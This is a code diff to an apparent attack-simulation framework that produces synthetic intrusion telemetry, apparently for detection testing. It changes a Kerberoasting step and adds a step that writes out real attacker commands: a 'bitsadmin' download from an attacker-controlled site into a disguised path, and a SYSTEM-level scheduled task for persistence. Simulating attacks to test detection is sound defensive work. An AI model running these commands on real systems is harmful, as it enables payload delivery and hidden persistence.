@@ -7,9 +7,9 @@ from typing import Final
 from tocsin.rehearse.acts import changes, logons, network, processes
 from tocsin.rehearse.benign.admins import remote
 from tocsin.rehearse.benign.workday import reach
-from tocsin.rehearse.machine import SYSTEM32, Machine, Running, system
+from tocsin.rehearse.machine import SYSTEM32, Machine, Running, Session, system
 from tocsin.rehearse.scene import Scene
-from tocsin.rehearse.stories.hold import MINUTE, Hold, implant
+from tocsin.rehearse.stories.hold import MINUTE, Hold, implant, keeps
 from tocsin.rehearse.stories.means import calls_home, typed
 from tocsin.rehearse.stories.story import Story
 from tocsin.rehearse.world import Body
@@ -58,15 +58,17 @@ def roasts(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
     """Tickets for services are asked for in the old cipher, to guess their passwords at leisure."""
     if not _does(story, "T1558.003"):
         return
-    body, machine = story.body, hold.web
-    account = f"{body.netbios}\\{machine.host.name}$"
-    with story.step(
-        scene, ts_us, "T1558.003", "Service tickets are gathered for guessing", host=machine.host, account=account
-    ):
+    body, machine, dice = story.body, hold.web, story.dice
+    # First as the machine, then as a person whose password lay in its memory.
+    account = hold.account if hold.others else f"{body.netbios}\\{machine.host.name}$"
+    names = ("svc-sql", "svc-backup", "svc-edocs", "svc-print", "svc-search", "svc-archive", "svc-scan")
+    what = "Service tickets are gathered for guessing"
+    with story.step(scene, ts_us, "T1558.003", what, host=machine.host, account=account, again="tickets"):
         at = ts_us
-        for name in ("svc-sql", "svc-backup", "svc-edocs", "svc-print", "svc-fieldwatch", "svc-archive", "svc-scan"):
+        for name in dice.some(names, 3):
             logons.ticket(scene, body, at, account, machine.host, name, "0x17")
-            at += 1_500_000 + story.dice.below(9_000_000)
+            at += 1_500_000 + dice.below(90_000_000)
+    hold.others = [f"{body.netbios}\\svc-edocs", f"{body.netbios}\\svc-search"]
     story.hosts.update(host.fqdn for host in body.with_role("dc"))
 
 
@@ -140,6 +142,7 @@ def moves(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
             )
             for number, line in enumerate(("quser", f"net use \\\\{files.host.name}\\C$", "cmdkey /list")):
                 typed(scene, jump, ts_us + (60 + 45 * number) * 1_000_000, prompt, line, through="")
+            _second(scene, story, hold, ts_us + 260_000_000, prompt, session)
             processes.end(scene, prompt, ts_us + int(lasts * 1e6) - 2_000_000)
             processes.end(scene, shell, ts_us + int(lasts * 1e6) - 1_000_000)
             logons.logoff(scene, jump, ts_us + int(lasts * 1e6), session)
@@ -154,6 +157,26 @@ def moves(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
             account=account,
         ):
             _service(scene, story, at, origin, files, account)
+
+
+def _second(scene: Scene, story: Story, hold: Hold, ts_us: int, prompt: Running, session: Session) -> None:
+    """Another program of theirs, on the jump host, under the task scheduler."""
+    if not _does(story, "T1053.005"):
+        return
+    machine, site = prompt.machine, hold.means.home[-1]
+    image, name = "C:\\ProgramData\\Intel\\Telemetry\\igfxtray64.exe", "\\Microsoft\\Windows\\Power\\AnalyzePower"
+    what = "A task starts another program of theirs on the jump host"
+    with story.step(scene, ts_us, "T1053.005 T1036.005", what, host=machine.host, account=hold.account):
+        typed(scene, machine, ts_us, prompt, f"bitsadmin /transfer a https://{site.name}/t {image}", through="")
+        calls_home(scene, story, machine.core["netsvcs"], site, ts_us + 400_000, received=688_128)
+        processes.writes(scene, machine.core["netsvcs"], ts_us + 1_500_000, image)
+        line = f'schtasks /create /f /sc onstart /ru SYSTEM /tn "{name}" /tr {image}'
+        typed(scene, machine, ts_us + 40_000_000, prompt, line, through="")
+        changes.task(scene, machine, ts_us + 40_300_000, session, name, image, "")
+        typed(scene, machine, ts_us + 60_000_000, prompt, f'schtasks /run /tn "{name}"', through="")
+        owner = machine.core["netsvcs"]
+        hold.second = processes.start(scene, machine, ts_us + 61_000_000, image, image, owner, integrity="System")
+    keeps(scene, story, hold, "second", "netsvcs")
 
 
 def _service(scene: Scene, story: Story, ts_us: int, parent: Running, server: Machine, account: str) -> None:
